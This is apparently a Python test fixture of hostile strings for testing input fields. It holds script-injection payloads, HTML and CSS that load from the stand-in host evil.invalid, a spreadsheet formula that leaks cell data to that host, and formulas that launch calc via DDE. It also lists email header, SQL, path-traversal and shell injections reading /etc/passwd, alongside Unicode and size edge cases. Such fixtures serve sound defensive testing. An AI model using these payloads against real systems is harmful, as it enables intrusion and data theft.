"""Hostile texts: what somebody may paste into any field, on purpose or by accident."""

from __future__ import annotations

ZALGO = "Z" + "\u0300\u0316\u0334\u0358\u0361" * 8 + "algo"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"

TEXTS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "breakout": '"><script>alert(2)</script>',
    "attribute breakout": "' onmouseover='alert(3)' x='",
    "image": "<img src=x onerror=alert(4)>",
    "svg": "<svg onload=alert(5)><script>alert(6)</script></svg>",
    "htmx": '<div hx-get="https://evil.invalid/x" hx-trigger="load">x</div>',
    "javascript link": "[x](javascript:alert(7)) <a href='javascript:alert(8)'>x</a>",
    "protocol-relative link": "[x](//evil.invalid/y) <a href=//evil.invalid>x</a>",
    "foreign image": '<img src="http://169.254.169.254/latest/meta-data/"> ![x](https://evil.invalid/p.png)',
    "foreign style": "<style>@import url(https://evil.invalid/s.css);*{background:url(//evil.invalid)}</style>",
    "css expression": "x;background:url(https://evil.invalid/b.png)",
    "attachment link": '<link rel="attachment" href="file:///etc/passwd">',
    "object": '<object data="file:///etc/hostname"></object><iframe src="//evil.invalid"></iframe>',
    "base and meta": '<base href="//evil.invalid"><meta http-equiv="refresh" content="0;url=//evil.invalid">',
    "closing tags": "</td></tr></table></section></body></html>-->]]>",
    "template syntax": "{{ 7|add:7 }}{% load static %}{% include 'x' %}{# x #}${7*7}#{7*7}<%= 7*7 %>",
    "format strings": "%s %(week)s %d %% %n {0} {0.__class__} {week!r}",
    "formula": '=HYPERLINK("https://evil.invalid?x="&A1,"clic")',
    "plus formula": "+1+cmd|' /C calc'!A0",
    "minus formula": "-2+3",
    "at formula": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "quoted formula": '","=1+1","',
    "header injection": "Projet\r\nBcc: evil@evil.invalid\r\n\r\nx",
    "line separators": "un\u2028deux\u2029trois",
    "bidi override": "facture\u202egpj.exe",
    "bidi isolate": "a\u2067b\u2069c",
    "vertical tab": "un\u000bdeux",
    "nul": "un\x00deux",
    "escape codes": "\x1b[31mrouge\x1b[0m\x07",
    "c1 control": "un\x85deux\x9btrois",
    "lone surrogate": "un\ud800deux",
    "noncharacter": "un\uffffdeux\ufffe",
    "byte order mark": "\ufeffbom",
    "zalgo": ZALGO,
    "combining first": "\u0301a\u0327\u0308e",
    "right to left": "مشروع الهوية الرقمية לוח מחוונים",
    "emoji family": FAMILY + "\U0001f3f4\u200d\u2620\ufe0f",
    "astral": "\U0001d54f\U00020000\U000e0041",
    "wide": "漢字かな交じり文\u3000全角",
    "ligatures and spaces": "ﬁn\u00a0de\u202fligne\u200bzéro\u00adtiret",
    "10 000 characters": "long " * 2000,
    "300 KB word": "m" * 300_000,
    "600 character word": "w" * 600,
    "wide table": '<table><tr><td colspan="1000000" rowspan="1000000">x</td></tr></table>',
    "huge font": '<p style="font-size:99999999px">x</p>',
    "400 nested lists": "<ul><li>" * 400 + "x",
    "400 nested bullets": "\n".join("  " * depth + "- x" for depth in range(400)),
    "400 nested quotes": "> " * 400 + "x",
    "many stars": "*" * 3000 + "x" + "_" * 3000,
    "many brackets": "[" * 3000 + "](" * 3000,
    "json": '"}], "state": "green", "x": [{"y": "\\u0000',
    "sql": "'; DROP TABLE portfolio_project; --",
    "like wildcards": "%_\\%' OR 1=1 ESCAPE '",
    "path": "../../../../etc/passwd\\..\\CON",
    "shell": "$(touch /tmp/x) `id` | cat /etc/passwd; & ",
    "log line": 'x", "level": "error", "event": "forged',
    "entities": "&lt;script&gt; &amp;amp; &#x3C;script&#x3E; &nbsp",
    "empty marks": "\u200e\u200f\u200d\u2060",
    "digits": "٣٫١٤ ９９９ Ⅻ ½ -0 1e400 NaN Infinity",
}
"""By what it tries."""

SHORT = {name: text for name, text in TEXTS.items() if len(text) <= 140}
"""Those that fit a name: the ones a page may have to show."""

FORBIDDEN = {
    "bidi override",
    "bidi isolate",
    "vertical tab",
    "nul",
    "escape codes",
    "c1 control",
    "lone surrogate",
    "noncharacter",
    "byte order mark",
    "zalgo",
}
"""Those that no field takes."""
